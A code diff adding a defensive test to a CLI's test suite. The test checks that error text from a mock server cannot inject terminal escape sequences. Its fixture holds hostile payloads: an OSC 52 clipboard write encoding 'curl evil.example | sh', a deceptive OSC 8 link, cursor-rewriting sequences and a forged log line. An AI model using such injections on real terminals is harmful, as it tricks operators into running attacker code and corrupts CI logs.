@@ -524,6 +524,83 @@ describe("keys and identifiers on the command line", () => {
   });
 });
 
+describe("what the CLI prints", () => {
+  it("a problem from the ledger (or anything answering for it) cannot drive the operator's terminal", async () => {
+    // The CLI wrote the answer's title, detail and errors[] to stderr as they came: escape
+    // sequences in them run in the operator's terminal (OSC 52 writes the clipboard, OSC 8 makes
+    // links, CSI rewrites earlier lines such as a back-fill's summary) and a newline forges lines
+    // in a CI log.
+    const ESC = "\u001b";
+    const ledger = await serve((_req, res) => {
+      res.writeHead(422, { "content-type": "application/problem+json" });
+      res.end(
+        JSON.stringify({
+          type: "https://pixiu.dev/problems/validation",
+          title: `Validation failed${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${ESC}\\`,
+          status: 422,
+          detail: `bad\nall rows imported, exit 0${ESC}[2K`,
+          instance: "req_1",
+          errors: [
+            {
+              path: `caseId${ESC}[1A`,
+              message: `no${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
+            },
+          ],
+        }),
+      );
+    });
+    try {
+      const env = { PIXIU_CONSORTIUM_KEY: DEMO_CONSORTIUM_KEY };
+      const now = Date.now();
+      const run = await new Promise<{ status: number | null; stderr: string }>((resolve) => {
+        const child = spawn(
+          process.execPath,
+          [
+            "--import",
+            TSX,
+            CLI,
+            "report",
+            "--url",
+            ledger.base,
+            "--platform",
+            "shop-rt",
+            "--key",
+            keyFile,
+            "--case-id",
+            "ESC-1",
+            "--device",
+            "dev-1",
+            "--category",
+            "ai_generated_image",
+            "--incident-at",
+            iso(now - 10 * DAY),
+            "--confirmed-at",
+            iso(now - 5 * DAY),
+            "--confirmation",
+            "platform_forensics",
+            "--amount",
+            "100",
+            "--currency",
+            "CNY",
+          ],
+          { cwd: dir, env: { PATH: process.env.PATH ?? "", HOME: dir, ...env } },
+        );
+        let stderr = "";
+        child.stderr.on("data", (d) => {
+          stderr += d;
+        });
+        child.on("close", (status) => resolve({ status, stderr }));
+      });
+      expect(run.status).toBe(1);
+      expect(run.stderr).toContain("Validation failed");
+      expect(run.stderr).not.toContain(ESC);
+      expect(run.stderr).not.toMatch(/\nall rows imported/);
+    } finally {
+      await ledger.close();
+    }
+  });
+});
+
 describe("the SDK's types", () => {
   it("a report and a subject-access query may leave out the fields the API defaults (evidence, limit)", () => {
     // openapi-typescript typed a field with a `default` as required, which is right for answers and
